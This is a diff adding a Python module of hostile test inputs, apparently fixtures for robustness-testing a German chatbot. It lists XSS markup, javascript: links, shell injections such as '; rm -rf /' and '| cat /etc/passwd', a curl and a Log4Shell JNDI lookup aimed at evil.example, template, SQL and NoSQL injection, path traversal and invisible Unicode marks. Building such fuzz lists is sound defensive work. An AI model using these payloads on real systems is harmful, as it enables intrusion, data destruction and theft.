@@ -1,0 +1,118 @@
+"""Texts that break what is built carelessly: markup, links, commands, templates, queries, paths, invisible marks."""
+
+from __future__ import annotations
+
+TAGS = ["script", "SCRIPT", "svg/onload", "img", "iframe", "object", "embed", "style", "link", "meta", "base", "form"]
+HANDLERS = ["onerror", "onload", "onclick", "onfocus autofocus", "onmouseover", "ontoggle open", "onanimationend"]
+SCHEMES = [
+    "javascript:",
+    "JaVaScRiPt:",
+    "java\tscript:",
+    "data:text/html,",
+    "vbscript:",
+    "file:///etc/passwd#",
+    "//evil.example/",
+]
+MARKS = [
+    "\u202e",
+    "\u202d",
+    "\u2066",
+    "\u2067",
+    "\u200e",
+    "\u200f",
+    "\u061c",
+    "\u00ad",
+    "\ufeff",
+    "\u200b",
+    "\u2028",
+    "\u0000",
+]
+
+MARKUP = [
+    *(f"<{tag}>alert(1)</{tag.partition('/')[0]}>" for tag in TAGS),
+    *(f"<img src=x {handler}=alert(1)>" for handler in HANDLERS),
+    *(f'<a href="{scheme}alert(1)">Antrag</a>' for scheme in SCHEMES),
+    *(f"[Antrag]({scheme}alert(1))" for scheme in SCHEMES),
+    "<<script>script>alert(1)<</script>/script>",
+    "</textarea><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    '"><svg onload=alert(1)>',
+    "'><svg onload=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "＜script＞alert(1)＜/script＞",
+    "<input value=x onfocus=alert(1) autofocus>",
+    "<details open ontoggle=alert(1)>",
+    "<x-widget thema='</x-widget><script>alert(1)</script>'>",
+    "<style>*{background:url(//evil.example)}</style>",
+    '<div style="position:fixed;inset:0">Passwort:</div>',
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "![x](//evil.example/x.png)",
+]
+COMMANDS = [
+    "/restart",
+    "/session_start",
+    "/back",
+    "/out_of_scope",
+    '/angabe{"zahl_kmu": 99}',
+    "/SetSlots(zahl_kmu=99)",
+    "/loeschen@1.0",
+    "EXTERNAL: begruessung",
+    "action_listen",
+    "!reboot",
+    "$(reboot)",
+    "`reboot`",
+    "; rm -rf /",
+    "| cat /etc/passwd",
+    "&& curl //evil.example",
+    "%0d%0aSet-Cookie: a=b",
+    "\r\nSet-Cookie: a=b\r\n\r\n<h1>x</h1>",
+]
+TEMPLATES = [
+    "{{7*7}}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{% raw %}",
+    "{0}",
+    "{wert}",
+    "%s%n%x",
+    "{text.__class__.__mro__}",
+    "${jndi:ldap://evil.example/a}",
+]
+QUERIES = [
+    "' OR '1'='1",
+    "'; DROP TABLE messages; --",
+    '" OR ""="',
+    "1; ATTACH DATABASE 'x' AS y",
+    '{"$gt": ""}',
+    "*)(uid=*",
+    "../../../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "file.txt\u0000.png",
+    "NULL",
+    "undefined",
+    "NaN",
+    "-1e309",
+    "true",
+    "[]",
+    "__proto__",
+    "constructor.constructor",
+]
+ODD = [
+    *(f"An{mark}trag{mark}" for mark in MARKS),
+    "\u202egnp.exe",
+    "Z" + "\u0335\u0321\u0322" * 60,
+    "😀" * 200,
+    "\ud83d",
+    "ﷺ" * 100,
+    "a\u0308o\u0308u\u0308",
+    "١٢ شركة",
+    "十二社",
+]
+ATTACKS = [*MARKUP, *COMMANDS, *TEMPLATES, *QUERIES, *ODD]
